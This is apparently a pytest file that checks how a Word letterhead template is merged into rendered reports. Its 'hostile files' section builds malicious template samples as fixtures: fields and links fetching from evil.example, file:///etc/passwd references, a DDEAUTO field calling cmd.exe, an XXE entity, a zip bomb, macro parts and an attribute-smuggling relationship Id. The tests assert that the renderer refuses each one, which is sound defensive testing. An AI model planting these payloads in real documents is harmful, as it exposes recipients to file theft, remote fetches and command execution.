"""A letterhead, templates/report.docx: its look is taken, no word of its body, nothing hostile."""

from __future__ import annotations

import io
import re
import struct
import zlib
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm, Pt
from lxml import etree

from nianbao.rendering import render_report
from nianbao.rendering.docx.sample import sample_letterhead
from nianbao.rendering.errors import TemplateError
from nianbao.workspace.settings import Settings
from tests.importing.round_trip import compile_report
from tests.rendering.docx.validators import faults
from tests.rendering.docx.word_files import W, body_of, lines_of, packed, parts_of
from tests.support import SEED, create_symlink, fixture_reports

if TYPE_CHECKING:
    from collections.abc import Callable

    from docx.document import Document

    from nianbao.model.report import Report

MARK = "秘密正文"  # stands in the body of every letterhead of these tests


def png() -> bytes:
    """Return a picture of one pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    content = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + content


def letterhead(change: Callable[[Document], object] = lambda _: None) -> bytes:
    """Return a letterhead made with python-docx and its own styles."""
    document = docx.Document()
    document.add_heading(MARK, 1)
    document.add_table(1, 1).cell(0, 0).text = MARK
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin = section.right_margin = Mm(30)
    section.header.paragraphs[0].text = "示例市财政局文件"
    section.footer.paragraphs[0].text = "示例市财政局办公室"
    document.styles["Heading 1"].font.name = "Arial Black"
    document.styles["Normal"].font.size = Pt(14)
    change(document)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def rendered(tmp_path: Path, content: bytes, name: str = "2022") -> bytes:
    folder = tmp_path / "templates"
    folder.mkdir(exist_ok=True)
    (folder / "report.docx").write_bytes(content)
    return render_report(report_of(name), "docx", Settings(), folder)


@cache
def plain(name: str = "2022") -> bytes:
    return render_report(report_of(name), "docx", Settings(), Path("/nonexistent"))


@cache
def report_of(name: str) -> Report:
    return compile_report(fixture_reports()[name].read_text("utf-8"))


@pytest.mark.parametrize("name", sorted(fixture_reports()))
def test_it_changes_header_footer_page_and_styles_and_no_word_of_the_report(
    name: str, tmp_path: Path
) -> None:
    data = rendered(tmp_path, letterhead(), name)
    assert faults(data) == []
    assert [text for _, text in lines_of(data)] == [text for _, text in lines_of(plain(name))]
    document = docx.Document(io.BytesIO(data))
    section = document.sections[0]
    assert section.header.paragraphs[0].text == "示例市财政局文件"
    assert section.footer.paragraphs[0].text == "示例市财政局办公室"
    assert section.left_margin is not None
    assert round(section.left_margin.mm) == 30
    assert document.styles["Heading 1"].font.name == "Arial Black"
    assert MARK.encode() not in b"".join(parts_of(data).values())


def test_tables_fill_its_page(tmp_path: Path) -> None:
    body = body_of(rendered(tmp_path, letterhead()))
    page = body.find(f"{W}sectPr")
    assert page is not None
    size, margins = page.find(f"{W}pgSz"), page.find(f"{W}pgMar")
    assert size is not None
    assert margins is not None
    sides = [int(margins.get(f"{W}{name}", 0)) for name in ("left", "right")]
    width = int(size.get(f"{W}w", 0)) - sum(sides)
    for table in body.iter(f"{W}tbl"):
        assert sum(int(each.get(f"{W}w", 0)) for each in table.iter(f"{W}gridCol")) == width


def test_the_file_to_begin_with_changes_nothing_but_adds_no_text(tmp_path: Path) -> None:
    data = rendered(tmp_path, sample_letterhead())
    assert faults(sample_letterhead()) == []
    assert faults(data) == []
    changed = {
        name
        for name, content in parts_of(plain()).items()
        if name not in parts_of(data)
        or etree.canonicalize(content.decode()) != etree.canonicalize(parts_of(data)[name].decode())
    }
    # Its styles lose the numbers of lists, which paragraphs have themselves; footers get new names.
    allowed = {"word/styles.xml", "word/document.xml", "[Content_Types].xml"}
    assert changed <= allowed | {"word/_rels/document.xml.rels"} | {
        name for name in changed if re.search("footer", name)
    }
    assert lines_of(data) == lines_of(plain())


def test_styles_of_a_chinese_word_are_known_by_their_names(tmp_path: Path) -> None:
    """There the id of heading 1 is 1, that of the title a3."""
    parts = parts_of(letterhead())
    for ours, theirs in (("Heading1", "1"), ("Title", "a3")):
        reference = rf'(w:styleId=|<w:(?:basedOn|next|link) w:val=)"{ours}"'.encode()
        new, count = re.subn(reference, rf'\g<1>"{theirs}"'.encode(), parts["word/styles.xml"])
        assert count
        parts["word/styles.xml"] = new
    data = rendered(tmp_path, packed(parts))
    assert faults(data) == []
    assert [style for style, text in lines_of(data) if text.startswith("一、总体")] == ["1"]
    assert lines_of(data)[0][0] == "a3"


def test_automatic_numbers_of_its_headings_do_not_come_before_ours(tmp_path: Path) -> None:
    def numbered(document: Document) -> None:
        numbers = f'<w:numPr {nsdecls("w")}><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
        properties = document.styles["Heading 1"].element.get_or_add_pPr()
        properties.insert(0, parse_xml(numbers))

    data = rendered(tmp_path, letterhead(numbered), "large-city-2025")
    heading = next(
        each
        for each in etree.fromstring(parts_of(data)["word/styles.xml"])
        if each.get(f"{W}styleId") == "Heading1"
    )
    assert heading.find(f".//{W}numPr") is None
    assert len(list(body_of(data).iter(f"{W}numPr"))) == 3  # those of the list of the report


def test_a_picture_and_a_link_of_the_header_are_kept(tmp_path: Path) -> None:
    def decorated(document: Document) -> None:
        header = document.sections[0].header
        header.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
        external("hyperlink", "https://www.example.gov.cn/")(document)

    data = rendered(tmp_path, letterhead(decorated))
    assert faults(data) == []
    assert png() in parts_of(data).values()


def test_fields_that_print_page_numbers_are_kept(tmp_path: Path) -> None:
    pages = (
        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/>'
        '<w:instrText xml:space="preserve"> NUMPAGES \\* MERGEFORMAT </w:instrText>'
        '<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/></w:r>'
    )

    def numbered(document: Document) -> None:
        in_header(pages)(document)
        field(" page ")(document)

    parts = parts_of(rendered(tmp_path, letterhead(numbered)))
    assert any(b" NUMPAGES " in content and b" page " in content for content in parts.values())


def test_odd_and_even_headers_are_taken_if_it_has_them(tmp_path: Path) -> None:
    def even(document: Document) -> None:
        document.settings.odd_and_even_pages_header_footer = True
        document.sections[0].even_page_header.paragraphs[0].text = "偶数页"

    document = docx.Document(io.BytesIO(rendered(tmp_path, letterhead(even))))
    assert document.settings.odd_and_even_pages_header_footer
    assert document.sections[0].even_page_header.paragraphs[0].text == "偶数页"
    single = docx.Document(io.BytesIO(rendered(tmp_path, letterhead())))
    assert not single.settings.odd_and_even_pages_header_footer


def test_a_page_whose_change_is_tracked_is_that_after_the_change(tmp_path: Path) -> None:
    def turned(document: Document) -> None:
        change = (
            f'<w:sectPrChange {nsdecls("w")} w:id="1" w:author="a"><w:sectPr><w:pgSz w:w="2000"/>'
            "</w:sectPr></w:sectPrChange>"
        )
        document.sections[0]._sectPr.append(parse_xml(change))

    section = docx.Document(io.BytesIO(rendered(tmp_path, letterhead(turned)))).sections[0]
    assert section.page_width is not None
    assert round(section.page_width.mm) == 210


# ── hostile files

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def external(kind: str, target: str) -> Callable[[Document], object]:
    def change(document: Document) -> None:
        header = document.sections[0].header
        identifier = header.part.relate_to(target, f"{RELATIONSHIPS}/{kind}", is_external=True)
        link = f'<w:hyperlink {nsdecls("w", "r")} r:id="{identifier}"/>'
        header.paragraphs[0]._p.append(parse_xml(link))

    return change


def in_header(xml: str) -> Callable[[Document], object]:
    def change(document: Document) -> None:
        document.sections[0].header.paragraphs[0]._p.append(parse_xml(xml))

    return change


def field(code: str) -> Callable[[Document], object]:
    return in_header(f'<w:fldSimple {nsdecls("w")} w:instr="{code}"/>')


SPLIT_FIELD = (
    f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDE</w:instrText>'
    '<w:instrText>PICTURE "https://evil.example/a.png"</w:instrText>'
    '<w:fldChar w:fldCharType="end"/></w:r>'
)
NESTED_FIELD = (
    f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
    '<w:instrText>TITLE</w:instrText><w:fldChar w:fldCharType="end"/>'
    '<w:instrText>"https://evil.example/"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
)
IMAGE = f"""<w:r {nsdecls("w")}><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>
<v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:r>"""

REFUSED = {
    "an external picture": external("image", "https://evil.example/a.png"),
    "a linked object": external("oleObject", "file:///etc/passwd"),
    "a link to a file": external("hyperlink", "file:///etc/passwd"),
    "a field that includes a picture": field("INCLUDEPICTURE https://evil.example/a.png"),
    "a field in two pieces": in_header(SPLIT_FIELD),
    "a field whose name is the result of another": in_header(NESTED_FIELD),
    "a field that runs a program": field("DDEAUTO c:\\\\cmd.exe"),
    "a picture by its address": in_header(IMAGE),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_word_would_fetch_or_run_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="页眉或页脚") as caught:
        rendered(tmp_path, letterhead(REFUSED[name]))
    assert caught.value.path == "templates/report.docx"


def bomb() -> bytes:
    parts = parts_of(letterhead())
    parts["word/media/zeros.bin"] = bytes(80_000_000)
    stream = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def with_dtd() -> bytes:
    parts = parts_of(letterhead())
    entity = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    header = next(name for name in parts if "header" in name and "rels" not in name)
    parts[header] = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1" + entity, parts[header])
    return packed(parts)


def with_macros() -> bytes:
    parts = parts_of(letterhead())
    plain_type = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        plain_type, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return packed(parts)


@pytest.mark.parametrize(
    "content",
    [bomb(), with_dtd(), with_macros(), b"", b"PK\x03\x04", SEED.read_bytes(), letterhead()[:9000]],
    ids=["bomb", "dtd", "macros", "empty", "start", "text", "cut"],
)
def test_a_file_that_is_no_letterhead_is_refused(content: bytes, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match=r"[一-鿿]"):
        rendered(tmp_path, content)


def test_macros_the_attached_template_and_other_parts_are_left_out(tmp_path: Path) -> None:
    parts = parts_of(letterhead())
    parts["word/vbaProject.bin"] = b"macro"
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate xmlns:r="' + RELATIONSHIPS.encode() + rb'" r:id="evil"/>',
        parts["word/settings.xml"],
    )
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="evil" Type="{RELATIONSHIPS}/attachedTemplate" '
        'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    rels = parts["word/_rels/document.xml.rels"]
    macro = (
        b'<Relationship Id="vba" Target="vbaProject.bin" '
        b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    parts["word/_rels/document.xml.rels"] = rels.replace(
        b"</Relationships>", macro + b"</Relationships>"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    data = rendered(tmp_path, packed(parts))
    everything = b"".join(parts_of(data).values())
    assert b"evil" not in everything
    assert not [name for name in parts_of(data) if "vba" in name or "stylesWithEffects" in name]


def test_the_name_of_a_relationship_brings_in_no_other(tmp_path: Path) -> None:
    """&quot; in it would end the attribute that it is written into."""
    parts = parts_of(letterhead(external("hyperlink", "https://www.example.gov.cn/")))
    hostile = b"x&quot; TargetMode=&quot;External"
    header = next(name for name in parts if re.fullmatch(r"word/header\d.xml", name))
    rels = f"word/_rels/{header.rpartition('/')[2]}.rels"
    parts[header] = re.sub(rb'r:id="[^"]*"', b'r:id="' + hostile + b'"', parts[header])
    parts[rels] = re.sub(rb'Id="[^"]*"', b'Id="' + hostile + b'"', parts[rels])
    data = rendered(tmp_path, packed(parts))
    (name,) = [each for each in parts_of(data) if "_rels/header" in each]
    (relationship,) = etree.fromstring(parts_of(data)[name])
    assert relationship.get("Id") == 'x" TargetMode="External'


def test_a_link_in_its_place_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (tmp_path / "elsewhere.docx").write_bytes(letterhead())
    create_symlink(folder / "report.docx", tmp_path / "elsewhere.docx")
    with pytest.raises(TemplateError, match="链接"):
        render_report(report_of("2022"), "docx", Settings(), folder)
